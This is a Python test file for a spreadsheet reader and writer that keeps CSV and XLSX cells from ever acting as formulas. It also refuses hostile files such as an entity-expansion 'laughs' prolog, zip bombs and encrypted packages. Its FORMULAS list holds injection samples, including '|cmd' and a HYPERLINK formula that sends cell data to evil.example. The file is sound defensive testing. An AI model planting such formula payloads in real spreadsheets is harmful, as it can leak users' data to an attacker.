"""Are tables read and written without surprises, and is nothing in them ever a formula?"""

import csv
import io
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from equalfooting.adapters.documents.limits import TABLE_LIMITS
from equalfooting.adapters.documents.pool import LimitedWorker
from equalfooting.adapters.spreadsheets import Sheet, Table, read_table, read_workbook, write_csv, write_workbook
from equalfooting.adapters.spreadsheets.cells import DANGEROUS, could_be_formula, shielded, unshielded
from equalfooting.adapters.spreadsheets.limits import MAX_COLUMNS, MAX_ROWS
from equalfooting.domain.refusals import Refusal
from tests.adapters import files

ROWS = (
    ("Internet Governance Forum", 2006, 1.5, date(2006, 10, 30), '=HYPERLINK("http://x")'),
    ("منتدى", 0, -2, None, "-5 is a text"),
    ("论坛", 1, 2, datetime(2026, 3, 14, 9, 30), "@SUM(1)"),
)
HEADINGS = ("Name", "Year", "Share", "Held on", "Remark")
FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x", "|cmd", "%0A",
    '=HYPERLINK("http://evil.example?x="&A1)', "'=1", "''=1", "'plain", "'", "=", "-", "_x003D_1+1",
]  # fmt: skip
WRITABLE = st.text(
    st.characters(exclude_categories=["Cs", "Cc", "Cn"], include_characters="\t\r\n"), min_size=1, max_size=40
)


def _workbook(**sheets: Sheet) -> bytes:
    target = io.BytesIO()
    write_workbook(target, sheets)
    return target.getvalue()


def _csv(sheet: Sheet) -> bytes:
    target = io.BytesIO()
    write_csv(target, sheet)
    return target.getvalue()


def _code(name: str, content: bytes) -> str:
    with pytest.raises(Refusal) as refused:
        read_table(name, content)
    assert refused.value.say()
    assert refused.value.hint()
    return refused.value.code


# --- there and back -------------------------------------------------------------------------------------


def test_a_workbook_comes_back_as_it_went_out() -> None:
    table = read_table("map.xlsx", _workbook(Mechanisms=Sheet(HEADINGS, ROWS)))

    assert table == Table(HEADINGS, ROWS, (2, 3, 4))


def test_every_sheet_of_a_workbook_is_read_by_name() -> None:
    content = _workbook(One=Sheet(["a"], [["x"]]), Two=Sheet(["b"], [["y"], [None], ["z"]]), Empty=Sheet([], []))

    book = read_workbook("map.xlsx", content)

    assert {name: table.rows for name, table in book.items()} == {"One": (("x",),), "Two": (("y",), ("z",))}
    assert book["Two"].numbers == (2, 4)
    assert read_table("map.xlsx", content, sheet="Two").headings == ("b",)


def test_csv_comes_back_as_text() -> None:
    table = read_table("map.csv", _csv(Sheet(HEADINGS, ROWS)))

    assert table.headings == HEADINGS
    assert table.rows[0] == ("Internet Governance Forum", "2006", "1.5", "2006-10-30", '=HYPERLINK("http://x")')
    assert table.rows[1][3] is None


def test_files_are_written_to_paths_too(tmp_path: Path) -> None:
    write_workbook(tmp_path / "a.xlsx", {"A": Sheet(["a"], [["x"]])})
    write_csv(tmp_path / "a.csv", Sheet(["a"], [["x"]]))

    for name in ("a.xlsx", "a.csv"):
        assert read_table(name, (tmp_path / name).read_bytes()).rows == (("x",),)


@given(st.lists(WRITABLE, min_size=1, max_size=6))
@example(FORMULAS)
@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow], deadline=None)
def test_any_text_returns_exactly_from_csv(worker: LimitedWorker, texts: list[str]) -> None:
    content = _csv(Sheet(["text"] + ["more"] * (len(texts) - 1), [texts]))

    replies = list(worker.ask("table", "a.csv", content, sheet="", every_sheet=False))

    assert [row for values, _ in replies for _, row in values.get("rows", [])] == [texts]


@given(st.lists(WRITABLE, min_size=1, max_size=6))
@example(FORMULAS)
@settings(max_examples=100, suppress_health_check=[HealthCheck.too_slow], deadline=None)
def test_any_text_returns_exactly_from_a_workbook(worker: LimitedWorker, texts: list[str]) -> None:
    content = _workbook(A=Sheet(["text"] + ["more"] * (len(texts) - 1), [texts]))

    replies = list(worker.ask("table", "a.xlsx", content, sheet="", every_sheet=False))

    assert [row for values, _ in replies for _, row in values.get("rows", [])] == [texts]


@pytest.fixture(scope="module")
def worker() -> object:
    worker = LimitedWorker(TABLE_LIMITS)
    yield worker
    worker.close()


@given(st.text(max_size=30))
@example("''=1")
def test_taking_the_shield_off_gives_back_what_was_shielded(text: str) -> None:
    assert unshielded(shielded(text)) == text
    assert not could_be_formula(shielded(text))


# --- nothing is a formula -------------------------------------------------------------------------------


def test_no_cell_of_a_csv_begins_like_a_formula() -> None:
    content = _csv(Sheet(FORMULAS, [FORMULAS]))

    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        assert [cell for cell in row if cell[:1] in DANGEROUS] == []


def test_text_cells_of_a_workbook_are_strings_marked_as_text() -> None:
    book = openpyxl.load_workbook(io.BytesIO(_workbook(A=Sheet(["=heading"], [[text] for text in FORMULAS]))))

    cells = [row[0] for row in book["A"].iter_rows()]
    book.close()
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells if could_be_formula(str(cell.value)) and not cell.quotePrefix] == []


def test_a_sheet_has_no_formula_in_its_xml() -> None:
    archive = zipfile.ZipFile(io.BytesIO(_workbook(A=Sheet(FORMULAS, [FORMULAS]))))

    assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_the_apostrophes_of_other_peoples_files_stay() -> None:
    table = read_table("a.csv", b"name,remark\n'tis,rock 'n' roll\n")

    assert table.rows == (("'tis", "rock 'n' roll"),)


# --- the look -------------------------------------------------------------------------------------------


def test_a_sheet_looks_like_a_table() -> None:
    sheet = Sheet(["Name", "Description"], [["论坛", "word " * 100]], is_right_to_left=True)

    book = openpyxl.load_workbook(io.BytesIO(_workbook(Map=sheet)))
    page = book["Map"]
    book.close()

    assert page["A1"].font.bold
    assert page.freeze_panes == "A2"
    assert page.auto_filter.ref == "A1:B2"
    assert page["B2"].alignment.wrap_text
    assert page.row_dimensions[2].height == 8 * 15  # 500 letters, 66 a line
    assert page.sheet_view.rightToLeft
    assert page.column_dimensions["A"].width < page.column_dimensions["B"].width <= 60
    assert page.print_title_rows == "$1:$1"


def test_sheets_get_titles_that_programs_take() -> None:
    sheets = {"a/b:c*?[d]\\e": Sheet(["x"], [["y"]]), "A" * 40: Sheet(["x"], []), "A" * 41: Sheet(["x"], [])}

    book = openpyxl.load_workbook(io.BytesIO(_workbook(**sheets)))
    titles = book.sheetnames
    book.close()

    assert len(set(titles)) == 3
    assert all(0 < len(title) <= 31 for title in titles)


def test_the_same_sheets_at_the_same_moment_are_the_same_bytes() -> None:
    first, second = io.BytesIO(), io.BytesIO()
    for target in (first, second):
        write_workbook(target, {"A": Sheet(HEADINGS, ROWS)}, now=datetime(2026, 3, 14))

    assert first.getvalue() == second.getvalue()
    assert read_table("a.xlsx", first.getvalue()).rows == ROWS


def test_a_cell_beyond_the_limit_of_the_format_is_refused_by_row() -> None:
    with pytest.raises(Refusal) as refused:
        _workbook(A=Sheet(["x"], [["short"], ["a" * 32_768]]))

    assert refused.value == Refusal("table-cell-too-long", name="A", row=3, limit=32_767)


# --- reading what others wrote --------------------------------------------------------------------------


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_the_separator_is_found(delimiter: str) -> None:
    text = delimiter.join(["name", "remark"]) + "\n" + delimiter.join(["A", '"one, two; three\nfour"']) + "\n"

    assert read_table("a.csv", text.encode()) == Table(("name", "remark"), (("A", "one, two; three\nfour"),), (2,))


def test_a_stated_separator_is_believed() -> None:
    assert read_table("a.csv", b"sep=;\r\na,b;c\r\n1;2\r\n").rows == (("1", "2"),)


@pytest.mark.parametrize("charset", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_codings_of_other_programs_are_read(charset: str) -> None:
    text = "nom,pays\nCôté à l’été,Algérie\n"

    assert read_table("a.csv", text.encode(charset)).rows == (("Côté à l’été", "Algérie"),)


def test_blank_rows_and_trailing_empty_cells_are_passed_over_but_counted() -> None:
    table = read_table("a.csv", b",,\n\nname,year,,\n\nA,1,,\n,,\nB,,,\n")

    assert table == Table(("name", "year"), (("A", "1"), ("B", None)), (5, 7))


def test_a_row_wider_than_its_headings_is_refused_by_number() -> None:
    with pytest.raises(Refusal) as refused:
        read_table("a.csv", b"name,year\nA,1\nB,2,3\n")

    assert refused.value == Refusal("table-row-too-wide", name="a.csv", row=3, n_cells=3, n_headings=2)


def test_formulas_are_never_computed_and_without_a_kept_value_they_are_refused() -> None:
    book = openpyxl.Workbook()
    book.active.append(["name", "sum"])
    book.active.append(["A", "=1+1"])
    target = io.BytesIO()
    book.save(target)

    with pytest.raises(Refusal) as refused:
        read_table("a.xlsx", target.getvalue())

    assert refused.value == Refusal("table-formula-unstored", name="a.xlsx", row=2, cell="B2")


def test_a_missing_sheet_is_refused_with_those_that_are_there() -> None:
    content = _workbook(One=Sheet(["a"], [["x"]]), Two=Sheet(["a"], [["x"]]))

    with pytest.raises(Refusal) as refused:
        read_table("a.xlsx", content, sheet="Three")

    assert refused.value.facts == {"name": "a.xlsx", "sheet": "Three", "sheets": "One, Two"}


def _sheet_xml(xml: str) -> bytes:
    """A workbook whose only sheet is this XML."""
    source = zipfile.ZipFile(io.BytesIO(_workbook(A=Sheet(["a"], [["x"]]))))
    parts = {name: source.read(name) for name in source.namelist()}
    return files.packed({**parts, "xl/worksheets/sheet1.xml": xml})


MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>'


def _cell(reference: str, text: str = "x") -> str:
    row = "".join(mark for mark in reference if mark.isdigit())
    return f'<row r="{row}"><c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c></row>'


def _sheet(*cells: str, prolog: str = "") -> bytes:
    return _sheet_xml(f"{prolog}<worksheet {MAIN}><sheetData>{''.join(cells)}</sheetData></worksheet>")


def _bomb(declared: int = 0) -> bytes:
    content = files.packed({"[Content_Types].xml": "<a/>", "xl/workbook.xml": b"0" * 80_000_000})
    return files.lying_about_size(content, "xl/workbook.xml", declared) if declared else content


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("laughs.xlsx", _sheet(_cell("A1", "&b;"), prolog=LAUGHS), "file-with-entities"),
        ("far-down.xlsx", _sheet(_cell("A1"), _cell(f"A{MAX_ROWS + 1}")), "table-too-many-rows"),
        ("far-right.xlsx", _sheet(_cell("A1"), _cell("XFD2")), "table-too-many-columns"),
        ("empty.xlsx", _sheet(), "table-no-headings"),
        ("torn.xlsx", _sheet(_cell("A1"))[:-40], "file-broken"),
        ("bomb.xlsx", _bomb(), "archive-unpacks-too-large"),
        ("hidden-bomb.xlsx", _bomb(declared=1000), "file-broken"),
        ("locked.xlsx", files.ole("EncryptedPackage"), "file-encrypted"),
        ("really.xlsx", b"a,b\n1,2\n", "file-kind-mismatch"),
        ("really.csv", _workbook(A=Sheet(["a"], [["x"]])), "file-kind-mismatch"),
        ("answer.docx", files.word(files.paragraph("x")), "file-kind-unknown"),
        ("empty.csv", b"", "file-empty"),
        ("blank.csv", b"\n\n,,\n", "table-no-headings"),
        ("wide.csv", b",".join([b"a"] * (MAX_COLUMNS + 1)), "table-too-many-columns"),
        ("long.csv", b"a\n" + b"x" * 1_000_001, "table-cell-too-long"),
        ("open.csv", b'a\n"' + b"x\n" * 600_000, "table-cell-too-long"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_hostile_table_is_refused_with_its_reason(name: str, content: bytes, code: str) -> None:
    assert _code(name, content) == code
